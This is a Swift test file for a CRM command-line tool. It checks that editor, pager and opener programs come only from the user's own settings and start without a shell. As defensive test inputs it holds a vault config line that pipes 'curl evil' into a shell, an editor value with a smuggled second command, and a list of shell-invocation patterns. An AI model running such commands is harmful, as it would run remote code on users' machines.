@testable import CRMFormat
@testable import CRMVault
import Foundation
import Testing

/// The trust boundary (issue #30, finding 1): programs come from the environment and the
/// person's own `~/.config/crm/config.yaml`, never from a file of the vault, and start from an
/// argument vector, never a shell.
@Suite struct TrustBoundaryTests {
    /// A folder for the person's own settings and scripts, removed at the end of the test.
    final class Home {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("crm-home-\(UUID().uuidString)")
        var path: String { url.path }
        init() throws { try FileManager.default.createDirectory(at: url, withIntermediateDirectories: true) }
        deinit { try? FileManager.default.removeItem(at: url) }

        /// An executable script that appends each argument, one a line, to `record.txt`.
        func recorder(_ name: String = "record") throws -> String {
            let file = url.appendingPathComponent(name)
            try Data("#!/bin/sh\nfor a in \"$@\"; do printf '%s\\n' \"$a\" >> '\(path)/record.txt'; done\n".utf8).write(to: file)
            try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: file.path)
            return file.path
        }

        var recorded: String? {
            FileManager.default.contents(atPath: path + "/record.txt").map { String(decoding: $0, as: UTF8.self) }
        }

        func settings(_ text: String) throws {
            let folder = url.appendingPathComponent(".config/crm")
            try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
            try Data(text.utf8).write(to: folder.appendingPathComponent("config.yaml"))
        }

        /// The environment of a run that reads these settings: `HOME` here, no `XDG_CONFIG_HOME`.
        func environment(_ extra: [String: String] = [:]) -> [String: String] {
            ["HOME": path, "XDG_CONFIG_HOME": ""].merging(extra) { $1 }
        }
    }

    // MARK: The editor

    @Test func theEditorSettingIsSplitIntoWordsAndThePathComesLastAsOneArgument() throws {
        let vault = try TemporaryVault(copyingExample: true)
        let home = try Home()
        let editor = try home.recorder()
        let result = try vault.crm("edit", "margaret", environment: ["VISUAL": "", "EDITOR": "\(editor) --wait -c 'set tw=72'"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(home.recorded == "--wait\n-c\nset tw=72\n\(vault.path)/people/margaret-holloway.md\n")
    }

    @Test func anEditorSettingThatNeedsAShellIsRefusedAndNothingRuns() throws {
        let vault = try TemporaryVault(copyingExample: true)
        let home = try Home()
        let marker = home.path + "/ran"
        let result = try vault.crm("edit", "margaret", environment: ["VISUAL": "true; touch \(marker)"])
        #expect(result.status == 1)
        #expect(result.stderr == "crm: error: $VISUAL ('true; touch \(marker)') has ';', which only a shell reads; "
                + "crm starts programs without a shell: put the command in a script and name the script\n")
        #expect(!FileManager.default.fileExists(atPath: marker))
    }

    /// Finding 18 of issue #30: a vault path starting with `-` reached the editor as an option.
    @Test func aVaultPathStartingWithADashReachesTheEditorAsAPath() throws {
        let home = try Home()
        let init_ = try CRM.run(["init", "--", "-v"], in: home.url)
        #expect(init_.status == 0, "\(init_.stderr)")
        #expect(try CRM.run(["--vault", "-v", "add", "Ada Lovelace"], in: home.url).status == 0)
        let editor = try home.recorder()
        let result = try CRM.run(["--vault=-v", "edit", "ada"], in: home.url, environment: ["VISUAL": editor])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(home.recorded == "./-v/people/ada-lovelace.md\n")
        #expect(ExternalProgram.fileArgument("/vault/people/a.md") == "/vault/people/a.md")
    }

    @Test func editorInTheUsersSettingsComesBeforeVisualAndEditor() throws {
        let vault = try TemporaryVault(copyingExample: true)
        let home = try Home()
        let editor = try home.recorder()
        try home.settings("editor: \(editor) --from-settings\n")
        let result = try vault.crm("edit", "margaret", environment: home.environment(["VISUAL": "false", "EDITOR": "false"]))
        #expect(result.status == 0, "\(result.stderr)")
        #expect(home.recorded == "--from-settings\n\(vault.path)/people/margaret-holloway.md\n")
    }

    // MARK: The vault's config

    /// Finding 1 of issue #30: a key naming a program in the synced `.crm/config.yaml` is
    /// warned about, naming the key and the file to move it to, and never used.
    @Test(arguments: ["opener", "editor", "pager"])
    func aProgramInTheVaultsConfigIsWarnedAboutAndIgnored(_ key: String) throws {
        let config = VaultConfig(bytes: Array("every: 30d\n\(key): sh -c 'curl evil | sh'\n".utf8), path: ".crm/config.yaml")
        #expect(config.diagnostics == [Diagnostic(path: ".crm/config.yaml", line: 2, rule: .configProgram, message: VaultConfig.programKeyIgnored(key))])
        #expect(config.diagnostics[0].description == ".crm/config.yaml:2:1: warning: \(key) names a program, and a vault's files never do "
                + "(anyone who syncs the vault could change it); ignored: move it to your own ~/.config/crm/config.yaml (or $XDG_CONFIG_HOME/crm/config.yaml) [config-program]")
        #expect(config.every?.description == "30d")

        let vault = try TemporaryVault(copyingExample: true)
        let home = try Home()
        let marker = home.path + "/ran"
        try vault.write(".crm/config.yaml", "\(key): touch \(marker)\n")
        let check = try vault.crm("check")
        #expect(check.stdout.contains(".crm/config.yaml:1:1: warning: \(key) names a program, and a vault's files never do"))
        let edit = try vault.crm("edit", "margaret", environment: ["VISUAL": "true"])
        #expect(edit.stderr.hasPrefix(".crm/config.yaml:1:1: warning: \(key) names a program"), "\(edit.stderr)")
        #expect(!FileManager.default.fileExists(atPath: marker))
    }

    // MARK: The person's own settings

    @Test func theUsersSettingsFileIsFoundByXDGConfigHomeElseHome() {
        #expect(UserConfig.path(environment: ["XDG_CONFIG_HOME": "/x/config", "HOME": "/home/ada"]) == "/x/config/crm/config.yaml")
        // A relative XDG_CONFIG_HOME is ignored, as the XDG Base Directory specification says.
        #expect(UserConfig.path(environment: ["XDG_CONFIG_HOME": "config", "HOME": "/home/ada"]) == "/home/ada/.config/crm/config.yaml")
        #expect(UserConfig.path(environment: ["XDG_CONFIG_HOME": "", "HOME": "/home/ada"]) == "/home/ada/.config/crm/config.yaml")
        #expect(UserConfig.path(environment: [:]) == nil)
    }

    @Test func theUsersSettingsAreReadAndTheirProblemsSaid() {
        let path = "/home/ada/.config/crm/config.yaml"
        let config = UserConfig(bytes: Array("""
            editor: code --wait
            pager: less -S
            opener: xdg-open
            contacts: ~/contacts
            calendar: calendars/personal
            every: 30d

            """.utf8), path: path)
        #expect(config.editor == "code --wait")
        #expect(config.pager == "less -S")
        #expect(config.opener == "xdg-open")
        #expect(config.contacts == "~/contacts")
        #expect(config.calendar == nil)
        #expect(config.diagnostics.map(\.description) == [
            "\(path):5:11: warning: calendar must be an absolute path or start with ~/ (calendar: ~/calendar)",
            "\(path):6:1: warning: 'every' is not a setting of this file (it holds editor, pager, opener, contacts, calendar); "
                + "a vault's settings go in its .crm/config.yaml",
        ])
    }

    @Test func theUsersSettingsProblemsArePrintedByEveryCommand() throws {
        let vault = try TemporaryVault(copyingExample: true)
        let home = try Home()
        try home.settings("editor: vim\nevery: 30d\n")
        let result = try vault.crm("due", environment: home.environment())
        #expect(result.status == 0)
        #expect(result.stderr.hasPrefix("\(home.path)/.config/crm/config.yaml:2:1: warning: 'every' is not a setting of this file"))
    }

    @Test func contactsAndCalendarInTheUsersSettingsAreDefaultsAfterTheVaults() throws {
        let vault = try TemporaryVault(copyingExample: true)
        let home = try Home()
        try FileManager.default.copyItem(atPath: Fixtures.packageRoot.appendingPathComponent("docs/examples/contacts.vcf").path,
                                         toPath: home.path + "/contacts.vcf")
        try FileManager.default.createDirectory(atPath: home.path + "/calendar", withIntermediateDirectories: true)
        try home.settings("contacts: ~/contacts.vcf\ncalendar: ~/calendar\n")
        let shown = try vault.crm("show", "margaret", environment: home.environment())
        #expect(shown.stdout.contains("~/contacts.vcf"), "\(shown.stdout)")
        let logged = try vault.crm("log", "margaret", "Tea.", "--calendar", environment: home.environment())
        #expect(logged.status == 0, "\(logged.stderr)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: home.path + "/calendar").count == 1)
        // The vault's own setting comes first.
        try vault.write(".crm/config.yaml", "calendar: events.ics\n")
        _ = try vault.crm("log", "margaret", "Lunch.", "--calendar", environment: home.environment())
        #expect(vault.exists("events.ics"))
        #expect(try FileManager.default.contentsOfDirectory(atPath: home.path + "/calendar").count == 1)
    }

    @Test func aVaultsConfigNeverNamesAPlaceOutsideTheVault() throws {
        let vault = try TemporaryVault(copyingExample: true)
        let home = try Home()
        try FileManager.default.copyItem(atPath: Fixtures.packageRoot.appendingPathComponent("docs/examples/contacts.vcf").path,
                                         toPath: home.path + "/private.vcf")
        try vault.write(".crm/config.yaml", "contacts: ~/private.vcf\n")
        let imported = try vault.crm("import", "--dry-run", environment: home.environment())
        #expect(imported.status != 0)
        #expect(imported.stderr.hasPrefix(".crm/config.yaml:1:11: warning: contacts: '~/private.vcf' is outside the vault, and a vault's "
                + "files never choose which address book crm reads into the vault outside it"), "\(imported.stderr)")
        #expect(imported.stderr.contains("no contacts source"), "\(imported.stderr)")
        let checked = try vault.crm("check", environment: home.environment())
        #expect(checked.stdout.contains("[config-outside]"), "\(checked.stdout)")

        // Nor through a symbolic link in the vault that leads out of it.
        try vault.write(".crm/config.yaml", "contacts: book.vcf\n")
        try FileManager.default.createSymbolicLink(atPath: vault.path + "/book.vcf", withDestinationPath: home.path + "/private.vcf")
        let linked = try vault.crm("import", "--dry-run", environment: home.environment())
        #expect(linked.status != 0)
        #expect(linked.stderr.contains("contacts: in .crm/config.yaml leads out of the vault through a symbolic link"), "\(linked.stderr)")
        #expect(!linked.stdout.contains("Would add"), "\(linked.stdout)")
    }

    // MARK: No shell anywhere

    /// No source file starts a shell or names one: every program starts from an argument vector.
    @Test func noSourceFileStartsAShell() throws {
        let sources = Fixtures.packageRoot.appendingPathComponent("Sources")
        let files = FileManager.default.enumerator(atPath: sources.path)!.compactMap { $0 as? String }.filter { $0.hasSuffix(".swift") }
        #expect(files.count > 100)
        for file in files {
            let text = try String(contentsOf: sources.appendingPathComponent(file), encoding: .utf8)
            for needle in ["\"/bin/sh\"", "\"sh\", \"-c\"", "system(", "popen(", "execl("] {
                let code = text.split(separator: "\n").filter { !$0.trimmingCharacters(in: .whitespaces).hasPrefix("//") }
                #expect(!code.contains { $0.contains(needle) }, "\(file) holds \(needle)")
            }
        }
    }
}
